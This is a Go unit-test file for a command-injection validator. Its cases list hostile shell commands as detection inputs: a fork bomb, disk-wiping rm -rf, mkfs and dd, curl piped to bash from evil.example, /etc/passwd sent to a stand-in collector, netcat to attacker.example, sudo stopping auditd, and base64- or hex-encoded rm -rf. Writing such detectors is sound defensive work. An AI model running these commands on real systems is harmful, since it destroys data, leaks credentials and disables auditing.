package validator

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func findByPattern(out Outcome, family string) (Finding, bool) {
	for _, f := range out.Findings {
		if f.Pattern == family {
			return f, true
		}
	}
	return Finding{}, false
}

func TestScanInjectionFamilies(t *testing.T) {
	v := New(DefaultLimits())

	cases := []struct {
		name     string
		command  string
		family   string
		severity Severity
		class    ThreatClass
	}{
		{"fork bomb", ":(){ :|:& };:", "fork_bomb", SeverityCritical, ThreatNone},
		{"rm recursive force", "rm -rf /var/www", "destructive_literal", SeverityCritical, ThreatNone},
		{"rm flags swapped", "rm -fr /tmp/x", "destructive_literal", SeverityCritical, ThreatNone},
		{"mkfs", "mkfs.ext4 /dev/sdb1", "destructive_literal", SeverityCritical, ThreatNone},
		{"dd", "dd if=/dev/zero of=/dev/sda", "destructive_literal", SeverityCritical, ThreatNone},
		{"pipe to bash", "curl http://evil.example/x.sh | bash", "pipe_to_interpreter", SeverityHigh, ThreatNone},
		{"pipe to powershell", "type payload | powershell -", "pipe_to_interpreter", SeverityHigh, ThreatNone},
		{"backticks", "echo `whoami`", "command_substitution", SeverityHigh, ThreatNone},
		{"dollar paren", "echo $(id -u)", "command_substitution", SeverityHigh, ThreatNone},
		{"semicolon chain", "ls; whoami", "shell_separator", SeverityHigh, ThreatNone},
		{"and chain", "true && reboot", "shell_separator", SeverityHigh, ThreatNone},
		{"redirect to etc", "echo x > /etc/hosts", "sensitive_redirection", SeverityHigh, ThreatNone},
		{"read shadow", "cat < /etc/shadow", "sensitive_redirection", SeverityHigh, ThreatNone},
		{"sudo", "sudo systemctl stop auditd", "privilege_escalation", SeverityHigh, ThreatPrivilegeEscalation},
		{"psexec", "psexec \\\\host cmd", "lateral_movement", SeverityHigh, ThreatLateralMovement},
		{"ssh remote", "ssh root@10.0.0.9", "lateral_movement", SeverityHigh, ThreatLateralMovement},
		{"curl post", "curl -d @/etc/passwd http://collector.example", "data_exfiltration", SeverityHigh, ThreatDataExfiltration},
		{"netcat", "nc attacker.example 4444", "data_exfiltration", SeverityHigh, ThreatDataExfiltration},
		{"env expansion", "echo $PATH", "env_expansion", SeverityMedium, ThreatNone},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			out := v.ScanInjection(tc.command)
			f, ok := findByPattern(out, tc.family)
			require.True(t, ok, "no %s finding in %+v", tc.family, out.Findings)
			assert.Equal(t, tc.severity, f.Severity)
			assert.Equal(t, tc.class, f.Class)
			assert.Equal(t, KindCommandInjection, f.Kind)
		})
	}
}

func TestScanInjectionCollectsAllFamilies(t *testing.T) {
	v := New(DefaultLimits())

	// One command tripping separator, destructive literal, and
	// privilege escalation at once. All three must be reported.
	out := v.ScanInjection("true; sudo rm -rf /")
	require.False(t, out.Valid)
	assert.Equal(t, SeverityCritical, out.Severity)

	for _, family := range []string{"shell_separator", "destructive_literal", "privilege_escalation"} {
		_, ok := findByPattern(out, family)
		assert.True(t, ok, "missing family %s", family)
	}
}

func TestScanInjectionSeparatorAloneIsHighNotCritical(t *testing.T) {
	v := New(DefaultLimits())

	out := v.ScanInjection("ls; pwd")
	require.False(t, out.Valid)
	assert.Equal(t, SeverityHigh, out.Severity)
}

func TestScanInjectionCleanCommands(t *testing.T) {
	v := New(DefaultLimits())

	for _, cmd := range []string{
		"Get-Process",
		"Get-Service -Name W3SVC",
		"Restart-Service -Name Spooler",
		"Test-NetConnection example.com",
	} {
		out := v.ScanInjection(cmd)
		assert.True(t, out.Valid, "%q flagged: %+v", cmd, out.Findings)
		assert.Empty(t, out.Findings, "%q", cmd)
	}
}

func TestScanEncodingsDetectsObfuscatedPayloads(t *testing.T) {
	v := New(DefaultLimits())

	cases := []struct {
		name    string
		command string
		pattern string
	}{
		{"url encoded", "run rm%20-rf%20%2F", "url"},
		{"html entities", "run rm&#32;-rf&#32;&#47;", "html_entity"},
		{"hex escapes", `run \x72\x6d\x20\x2d\x72\x66`, "hex"},
		{"base64", "decode cm0gLXJmIC8=", "base64"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			out := v.ScanInjection(tc.command)
			f, ok := findByPattern(out, tc.pattern)
			require.True(t, ok, "no %s finding in %+v", tc.pattern, out.Findings)
			assert.Equal(t, KindEncodingAttempt, f.Kind)
			assert.Equal(t, SeverityCritical, f.Severity)
		})
	}
}

func TestScanEncodingsIgnoresBenignEncodedText(t *testing.T) {
	v := New(DefaultLimits())

	// Encoded content that decodes to harmless text must not be
	// flagged as an encoding attempt.
	for _, cmd := range []string{
		"fetch https://example.com/a%20b",
		"echo aGVsbG8gd29ybGQ=", // "hello world"
		"print &amp; done",
	} {
		out := v.ScanInjection(cmd)
		_, found := findByPattern(out, "url")
		assert.False(t, found, "%q", cmd)
		for _, f := range out.Findings {
			assert.NotEqual(t, KindEncodingAttempt, f.Kind, "%q: %+v", cmd, f)
		}
	}
}
